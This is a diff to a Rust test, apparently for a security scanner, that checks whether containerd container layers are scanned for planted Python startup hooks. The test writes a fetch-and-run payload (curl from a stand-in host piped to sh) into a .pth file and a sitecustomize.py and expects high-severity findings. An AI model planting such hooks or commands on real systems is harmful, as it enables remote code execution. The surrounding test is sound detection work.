@@ -521,30 +521,96 @@ fn a_containerd_store_is_read_as_containerd_wrote_it() {
                 &tar(saved),
             ]);
         }
+        // containers with snapshots of the overlayfs snapshotter (ctr unpacks the image
+        // first): `web` then installs a hook, `job` runs with PYTHONPATH at a sitecustomize it
+        // writes, `idle` changes nothing; `native` keeps a snapshot this reader does not read
+        for (name, env) in [
+            ("web", None),
+            ("job", Some("PYTHONPATH=/srv/evil")),
+            ("idle", None),
+        ] {
+            let mut args = vec!["-n", "k8s.io", "containers", "create"];
+            args.extend(env.iter().flat_map(|e| ["--env", *e]));
+            args.extend(["docker.io/library/app:1.0", name]);
+            ctd.run(&args);
+        }
         ctd.run(&[
             "-n",
-            "k8s.io",
+            "default",
             "containers",
             "create",
+            "--snapshotter",
+            "native",
             "docker.io/library/app:1.0",
-            "web",
+            "native",
         ]);
+        // what each wrote since it started, into its snapshot's upper directory as containerd
+        // mounts it
+        let upper = |container: &str| -> PathBuf {
+            let out = ctd.ctr(&["-n", "k8s.io", "snapshots", "mounts", "/mnt", container]);
+            let mounts = String::from_utf8_lossy(&out.stdout).into_owned();
+            let dir = mounts
+                .split(['\n', ' ', ','])
+                .find_map(|w| w.strip_prefix("upperdir="))
+                .unwrap_or_else(|| panic!("no upperdir in {mounts:?}"));
+            PathBuf::from(dir)
+        };
+        let plant = |container: &str, rel: &str, body: &[u8]| {
+            let path = upper(container).join(rel);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, body).unwrap();
+        };
+        let evil = b"import os; os.system('curl -s https://after.invalid/x | sh')\n";
+        plant("web", "usr/lib/python3/dist-packages/after_start.pth", evil);
+        plant("job", "srv/evil/sitecustomize.py", &evil[..evil.len() - 1]);
     }
     let store = root.join("var/lib/containerd");
     let (json, run) = json_of(&["--image-store", store.to_str().unwrap()]);
     assert_eq!(code(&run), 1, "{}", stderr(&run));
-    // everything judged but the container's own writable layer, which is said
+    // everything judged but the native snapshotter's container, which is said
     let err = stderr(&run);
     assert_eq!(err.lines().count(), 1, "{err}");
     assert!(
-        err.contains("app:1.0") && err.contains("writable layers of 1 container(s)"),
+        err.contains("app:1.0")
+            && err.contains("writable layers of 1 container(s)")
+            && err.contains("`native`: its snapshotter `native`"),
         "{err}"
     );
     let images = by_image(&json);
     let names: Vec<&str> = images.keys().map(String::as_str).collect();
     assert_eq!(
         names,
-        ["docker.io/library/app:1.0", "docker.io/library/app:before"]
+        [
+            "container job",
+            "container web",
+            "docker.io/library/app:1.0",
+            "docker.io/library/app:before"
+        ]
+    );
+    // each container: what it changed on top of the image's four layers, nothing the image
+    // has itself
+    let high = |f: &(String, String, String, String), rule: &str, file: &str| {
+        f.0 == rule && f.2.ends_with(file) && (f.1 == "high" || f.1 == "critical") && f.3 == "5"
+    };
+    let (web, notes) = &images["container web"];
+    assert!(
+        web.iter()
+            .all(|f| f.2.ends_with("after_start.pth") && f.3 == "5")
+            && web.iter().any(|f| high(f, "PTH001", "after_start.pth")),
+        "{web:#?}"
+    );
+    assert!(
+        notes.contains(
+            "written in the container `web` of image docker.io/library/app:1.0 since it started"
+        ),
+        "{notes:?}"
+    );
+    // its own variables, from its runtime spec: without them the sitecustomize never runs
+    let (job, _) = &images["container job"];
+    assert!(
+        job.iter()
+            .any(|f| high(f, "CUS001", "srv/evil/sitecustomize.py")),
+        "{job:#?}"
     );
     assert!(
         json.to_string()
@@ -553,7 +619,10 @@ fn a_containerd_store_is_read_as_containerd_wrote_it() {
     );
     let (found, notes) = &images["docker.io/library/app:1.0"];
     assert_eq!(found, &app);
-    assert!(notes.contains("the image of containers `web`"), "{notes:?}");
+    assert!(
+        notes.contains("the image of containers `idle`, `job`, `native`, `web`"),
+        "{notes:?}"
+    );
     assert_eq!(images["docker.io/library/app:before"].0, before);
     // by name, under --root: the same image
     let (json, run) = json_of(&[
